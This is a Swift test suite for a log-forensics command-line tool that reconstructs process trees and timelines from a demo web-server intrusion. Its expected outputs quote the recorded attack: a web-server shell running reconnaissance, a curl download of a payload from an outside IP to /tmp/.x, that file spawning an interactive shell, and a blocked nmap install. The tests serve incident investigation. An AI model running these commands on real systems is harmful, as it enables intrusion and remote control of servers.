import Foundation
import Testing

@Suite(.serialized) struct TreeTimelineCommandTests {
    /// One store with the demo incident, shared by the tests of this suite.
    static let fixture = DemoStore.imported()
    var store: String { Self.fixture.store }

    /// The demo's records split at the median `UpdatedTime`: every record of the first part is older
    /// than every record of the second.
    static func demoHalves() throws -> (older: String, newer: String) {
        let records = lines(try String(contentsOfFile: Shared.repository + "/samples/demo-incident.ndjson", encoding: .utf8))
        func time(_ record: String) -> String {
            let range = record.range(of: #""UpdatedTime":"[^"]*""#, options: .regularExpression)!
            return String(record[range])
        }
        let boundary = records.map(time).sorted()[records.count / 2]
        return (records.filter { time($0) < boundary }.joined(separator: "\n") + "\n",
                records.filter { time($0) >= boundary }.joined(separator: "\n") + "\n")
    }

    // MARK: tree

    @Test func fromTheBlockedAptGetBackToTheWebServer() throws {
        let run = try CLI.run(["tree", "--store", store, "--pid", "9939", "--format", "json"])
        #expect(run.status == 0, "\(run.stderr)")
        let roots = try #require(try JSONSerialization.jsonObject(with: run.stdoutBytes) as? [[String: Any]])
        #expect(roots.count == 1)
        var chain: [[String: Any]] = []
        var node = roots.first
        while let current = node {
            chain.append(current)
            node = (current["Children"] as? [[String: Any]])?.first
        }
        #expect(chain.map { $0["HostPID"] as? Int } == [4023, 4024, 9893, 9924, 9934, 9939])
        let root = chain[0], shell = chain[2], blocked = chain[5]
        #expect(root["Placeholder"] as? Bool == true)
        #expect(root["Inferred"] as? String == "placeholder")
        #expect(root["UID"] is NSNull)
        #expect(root["ExitNs"] is NSNull)
        #expect(shell["Images"] as? [String] == ["/usr/sbin/apache2", "/usr/bin/dash"])
        #expect(shell["PID"] as? Int == 230)
        #expect(blocked["UID"] as? Int == 33)
        #expect((blocked["ContainerID"] as? String)?.hasPrefix("14a0f9e77f1b") == true)
        #expect(blocked["Events"] as? [String: Int] == ["Process": 1])
        #expect((blocked["Children"] as? [Any])?.isEmpty == true)
        #expect(blocked["Placeholder"] as? Bool == false)
        #expect((blocked["StartNs"] as? Int ?? 0) > (shell["StartNs"] as? Int ?? .max))
        // Keys come in the documented order.
        let keys = ["HostName", "HostPID", "PID", "StartNs", "ExitNs", "Images", "UID", "ContainerID", "Inferred",
                    "Placeholder", "Events", "Children"]
        let firstObject = run.stdout[..<(try #require(run.stdout.range(of: "\"Children\":")).upperBound)]
        let positions = keys.map { firstObject.range(of: "\"\($0)\":")?.lowerBound }
        #expect(positions.allSatisfy { $0 != nil })
        #expect(positions.compactMap { $0 }.sorted() == positions.compactMap { $0 })
    }

    @Test func everythingTheShellDid() throws {
        let run = try CLI.run(["tree", "--store", store, "--pid", "9893", "--descendants"])
        #expect(run.status == 0, "\(run.stderr)")
        let text = lines(run.stdout)
        #expect(text.count == 12)
        #expect(text[0].hasPrefix("[ip-10-0-1-10.ec2.internal] *apache2 → dash(9893/230) -c id;uname -a;ps aux;"))
        for expected in ["├─ dash(9939/240) · exec failed: /usr/bin/apt-get install -y nmap · uid 33",
                         "├─ dash → id(9897/231) · uid 33", "├─ dash → curl(9920/236) -sSL -o /tmp/.x http://203.0.113.45:8080/x",
                         "└─ dash → .x(9924/238) · uid 33", "   └─ .x → dash(9934/239) -i", "└─ dash → ps(9946/241) aux"] {
            #expect(text.contains { $0.contains(expected) }, "missing \(expected)")
        }
        #expect(text.first { $0.contains("curl(9920") }?.hasSuffix("file 3 · network 3") == true)
        let dot = try CLI.run(["tree", "--store", store, "--pid", "9893", "--descendants", "--depth", "1", "--format", "dot"])
        #expect(dot.stdout.hasPrefix("digraph processes {"))
        #expect(dot.stdout.components(separatedBy: " -> ").count - 1 == 8, "the shell's eight children")
    }

    @Test func expressionsSelectTheProcessesOfMatchingEvents() throws {
        let run = try CLI.run(["tree", "--store", store, "Action = Block", "--ancestors"])
        #expect(run.status == 0, "\(run.stderr)")
        let selected = lines(run.stdout).filter { $0.contains("*") }
        #expect(selected.count == 2)
        #expect(selected.contains { $0.contains("*.x → dash(9934/239)") })
        #expect(selected.contains { $0.contains("*dash(9939/240)") })
        let none = try CLI.run(["tree", "--store", store, "--pid", "31337"])
        #expect(none.status == 1)
        #expect(none.stdout.isEmpty)
        let forest = try CLI.run(["tree", "--store", store, "--format", "json"])
        let roots = try #require(try JSONSerialization.jsonObject(with: forest.stdoutBytes) as? [[String: Any]])
        #expect(Set(roots.compactMap { $0["HostName"] as? String }) == ["ip-10-0-1-10.ec2.internal", "ip-10-0-1-11.ec2.internal"])
    }

    @Test func atPicksTheInstanceOfAReusedPID() throws {
        let scratch = Scratch()
        func record(_ seconds: Int, ppid: Int, name: String, parent: String, operation: String, resource: String, data: String) -> String {
            let micro = String(format: "%06d", 100_000 + seconds)
            return #"{"Timestamp":\#(1_717_150_000 + seconds),"UpdatedTime":"2024-05-31T10:06:40.\#(micro)Z","#
                + #""HostName":"node-a","HostPPID":\#(ppid),"HostPID":500,"PPID":\#(ppid),"PID":500,"UID":0,"#
                + #""ParentProcessName":"\#(parent)","ProcessName":"\#(name)","Type":"HostLog","Source":"\#(parent)","#
                + #""Operation":"\#(operation)","Resource":"\#(resource)","Data":"\#(data)","Result":"Passed"}"#
        }
        let log = [
            record(0, ppid: 100, name: "/usr/bin/bash", parent: "/usr/sbin/sshd", operation: "Process", resource: "/usr/bin/bash",
                   data: "syscall=SYS_EXECVE"),
            record(1, ppid: 100, name: "/usr/bin/bash", parent: "/usr/sbin/sshd", operation: "File", resource: "/etc/passwd",
                   data: "syscall=SYS_OPENAT fd=-100 flags=O_RDONLY"),
            record(60, ppid: 200, name: "/usr/bin/curl", parent: "/usr/sbin/cron", operation: "Process",
                   resource: "/usr/bin/curl -s http://example.net", data: "syscall=SYS_EXECVE"),
        ].joined(separator: "\n") + "\n"
        let store = scratch.path + "/store"
        let imported = try CLI.run(["import", "--store", store, scratch.write("reuse.ndjson", log)])
        #expect(imported.status == 0, "\(imported.stderr)")
        func images(_ arguments: [String]) throws -> [[String]] {
            let run = try CLI.run(["tree", "--store", store, "--pid", "500", "--descendants", "--format", "json"] + arguments)
            #expect(run.status == 0, "\(run.stderr)")
            let roots = try #require(try JSONSerialization.jsonObject(with: run.stdoutBytes) as? [[String: Any]])
            return roots.map { $0["Images"] as? [String] ?? [] }
        }
        #expect(try images([]) == [["/usr/sbin/sshd", "/usr/bin/bash"], ["/usr/sbin/cron", "/usr/bin/curl"]])
        #expect(try images(["--at", "2024-05-31T10:06:40.100001Z"]) == [["/usr/sbin/sshd", "/usr/bin/bash"]])
        #expect(try images(["--at", "2024-05-31T10:06:40.100070Z"]) == [["/usr/sbin/cron", "/usr/bin/curl"]])
        let text = try CLI.run(["tree", "--store", store, "--pid", "500", "--at", "2024-05-31T10:06:40.100070Z"])
        #expect(lines(text.stdout).count == 2, "the reaper-less placeholder cron(200) and curl")
        #expect(text.stdout.contains("inferred-from-logs:new-parent"))
        let usage = try CLI.run(["tree", "--store", store, "--at", "now"])
        #expect(usage.status != 0)
        #expect(usage.stderr.contains("--at needs --pid"))
    }

    // MARK: the stored table

    @Test func reindexRebuildsTheProcessTable() throws {
        let scratch = Scratch()
        let store = scratch.path + "/store"
        _ = try CLI.run(["import", "--store", store, Shared.repository + "/samples/demo-incident.ndjson"])
        let before = try CLI.run(["tree", "--store", store, "--format", "json"])
        let reindex = try CLI.run(["reindex", "--store", store])
        #expect(reindex.status == 0, "\(reindex.stderr)")
        #expect(reindex.stderr.contains("process table rebuilt"))
        let after = try CLI.run(["tree", "--store", store, "--format", "json"])
        #expect(!before.stdout.isEmpty)
        #expect(after.stdout == before.stdout)
    }

    @Test func importsExtendTheTableAndOlderImportsRebuildIt() throws {
        let whole = try CLI.run(["tree", "--store", store, "--format", "json"]).stdout
        let halves = try Self.demoHalves()
        for (first, second, expected) in [(halves.older, halves.newer, "process table extended"),
                                          (halves.newer, halves.older, "process table rebuilt (new blocks hold events older")] {
            let scratch = Scratch()
            let store = scratch.path + "/store"
            let one = try CLI.run(["import", "--store", store, scratch.write("first.ndjson", first)])
            #expect(one.stderr.contains("process table rebuilt (the index holds no process table)"), "\(one.stderr)")
            let two = try CLI.run(["import", "--store", store, scratch.write("second.ndjson", second)])
            #expect(two.stderr.contains(expected), "\(two.stderr)")
            #expect(try CLI.run(["tree", "--store", store, "--format", "json"]).stdout == whole)
        }
    }

    // MARK: timeline

    @Test func timelineShowsLineageAndAlerts() throws {
        let run = try CLI.run(["timeline", "--store", store, "HostPID in (9893, 9924, 9934, 9939)"])
        #expect(run.status == 0, "\(run.stderr)")
        let text = lines(run.stdout)
        #expect(text.count == 8)
        #expect(text.map { String($0.prefix(27)) } == text.map { String($0.prefix(27)) }.sorted())
        let blocked = try #require(text.first { $0.contains("apt-get(9939)") })
        #expect(blocked.contains("  ip-10-0-1-10.ec2.internal  … › dash › .x › dash › apt-get(9939)  Process  /usr/bin/apt-get install -y nmap  Permission denied  !! Block ksp-wordpress-mysql-block-pkg-mgmt (severity 5)"))
        #expect(text[0].contains("apache2 › apache2 › dash(9893)  Process  /bin/sh -c id;"))
        #expect(!run.stdout.contains("\u{1B}"), "no colour when not on a terminal")
        let alerts = try CLI.run(["timeline", "--store", store, "--type", "alert"])
        let paced = try CLI.run(["timeline", "--store", store, "--type", "alert", "--replay", "--speed", "1000000", "--max-gap", "1ms"])
        #expect(lines(alerts.stdout).count > 10)
        #expect(paced.stdout == alerts.stdout)
        #expect(lines(alerts.stdout).allSatisfy { $0.contains("!! ") })
    }

    @Test func followPicksUpBlocksImportedWhileItRuns() throws {
        let scratch = Scratch()
        let store = scratch.path + "/store"
        let halves = try Self.demoHalves()
        _ = try CLI.run(["import", "--store", store, scratch.write("older.ndjson", halves.older)])
        let initial = lines(halves.older).count
        let follower = try RunningCLI(["timeline", "--store", store, "--follow", "--poll-interval", "100ms"])
        defer { follower.stop() }
        #expect(follower.waitFor(lines: initial), "the history: \(follower.output.count) bytes")
        let imported = try CLI.run(["import", "--store", store, scratch.write("newer.ndjson", halves.newer)])
        #expect(imported.status == 0)
        #expect(follower.waitFor(lines: 2000), "the new events: \(lines(follower.output).count) lines")
        let printed = lines(follower.output)
        #expect(printed.count == 2000)
        #expect(printed[initial...].contains { $0.contains("apt-get(9939)") && $0.contains("!! Block") })
        #expect(!printed[..<initial].contains { $0.contains("apt-get(9939)") })
    }
}

/// A `rearview` run that keeps going (`--follow`) while the test reads what it printed so far.
final class RunningCLI: @unchecked Sendable {
    private let process = Process()
    private let lock = NSLock()
    private var buffer = Data()

    init(_ arguments: [String]) throws {
        process.executableURL = URL(fileURLWithPath: CLI.binary)
        process.arguments = arguments
        let out = Pipe()
        process.standardOutput = out
        process.standardError = FileHandle.nullDevice
        out.fileHandleForReading.readabilityHandler = { [self] handle in
            let data = handle.availableData
            lock.withLock { buffer.append(data) }
        }
        try process.run()
    }

    var output: String { lock.withLock { String(decoding: buffer, as: UTF8.self) } }

    /// Waits until at least `count` lines were printed (true), or gives up after a minute (false).
    func waitFor(lines count: Int) -> Bool {
        let deadline = Date().addingTimeInterval(60)
        while Date() < deadline {
            if lines(output).count >= count { return true }
            Thread.sleep(forTimeInterval: 0.05)
        }
        return false
    }

    func stop() {
        guard process.isRunning else { return }
        process.terminate()
        process.waitUntilExit()
    }
}
